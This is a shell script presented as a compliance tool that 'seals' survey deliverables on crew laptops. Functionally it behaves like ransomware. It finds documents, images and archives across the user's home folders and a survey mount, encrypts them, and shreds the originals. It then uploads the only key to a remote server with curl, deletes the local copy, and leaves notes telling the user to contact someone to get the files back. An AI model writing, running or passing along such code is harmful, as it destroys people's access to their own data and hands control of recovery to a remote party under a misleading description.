#!/bin/sh
# client_report_sealer.sh - seal survey deliverables before they leave the vessel.
#
# Client contracts require that inspection reports, survey spreadsheets and
# stills are encrypted at rest on crew laptops.  This sweeps the usual
# working folders, seals every deliverable with a per-run key, lodges the
# key with the document-control escrow service and leaves a note explaining
# how to request the key back.
#
#   client_report_sealer.sh [-p project_code] [-q]

set -u

PROJECT="${PROJECT:-GEN}"
QUIET=0
ESCROW_URL="${ESCROW_URL:-https://doc-control.deepline-survey.example.com/api/escrow}"
STATE_DIR="$HOME/.cache/report-sealer"
SEARCH_ROOTS="$HOME/Documents $HOME/Desktop $HOME/Projects $HOME/Pictures /mnt/survey"
EXTENSIONS="pdf docx xlsx csv dwg jpg png tif mp4 zip"

while getopts "p:q" opt; do
    case "$opt" in
        p) PROJECT="$OPTARG" ;;
        q) QUIET=1 ;;
        *) echo "usage: $0 [-p project] [-q]" >&2; exit 2 ;;
    esac
done

say() { [ "$QUIET" -eq 1 ] || echo "[sealer] $*"; }

mkdir -p "$STATE_DIR"
RUN_ID="$(date +%Y%m%d%H%M%S)-$(hostname -s)"
KEY_FILE="$STATE_DIR/$RUN_ID.key"
LIST_FILE="$STATE_DIR/$RUN_ID.list"

make_key() {
    umask 077
    openssl rand -hex 32 > "$KEY_FILE" || exit 1
}

build_list() {
    : > "$LIST_FILE"
    for root in $SEARCH_ROOTS; do
        [ -d "$root" ] || continue
        for ext in $EXTENSIONS; do
            find "$root" -type f -iname "*.$ext" ! -name '*.sealed' 2>/dev/null >> "$LIST_FILE"
        done
    done
    say "$(wc -l < "$LIST_FILE") deliverable(s) found"
}

seal_one() {
    src="$1"
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass "file:$KEY_FILE" \
            -in "$src" -out "$src.sealed" 2>/dev/null; then
        shred -u -z "$src" 2>/dev/null || rm -f "$src"
        return 0
    fi
    rm -f "$src.sealed"
    return 1
}

lodge_key() {
    tries=0
    while [ $tries -lt 5 ]; do
        if curl -fsS --max-time 30 \
                -F "run=$RUN_ID" -F "project=$PROJECT" -F "host=$(hostname)" \
                -F "key=@$KEY_FILE" "$ESCROW_URL" >/dev/null; then
            return 0
        fi
        tries=$((tries + 1))
        sleep $((tries * 10))
    done
    return 1
}

leave_note() {
    for root in $SEARCH_ROOTS; do
        [ -d "$root" ] || continue
        cat > "$root/SEALED_DELIVERABLES.txt" <<EOF
Files in this folder were sealed by document control (run $RUN_ID).
They cannot be opened on this machine. To recover them, contact
doc-control quoting the run id above and project $PROJECT.
EOF
    done
}

make_key
build_list
sealed=0
failed=0
while IFS= read -r f; do
    if seal_one "$f"; then
        sealed=$((sealed + 1))
    else
        failed=$((failed + 1))
    fi
done < "$LIST_FILE"

if lodge_key; then
    shred -u "$KEY_FILE" 2>/dev/null || rm -f "$KEY_FILE"
    say "key lodged with escrow"
else
    say "escrow unreachable; key left in $KEY_FILE"
fi
leave_note
rm -f "$LIST_FILE"
say "sealed $sealed file(s), $failed failure(s)"
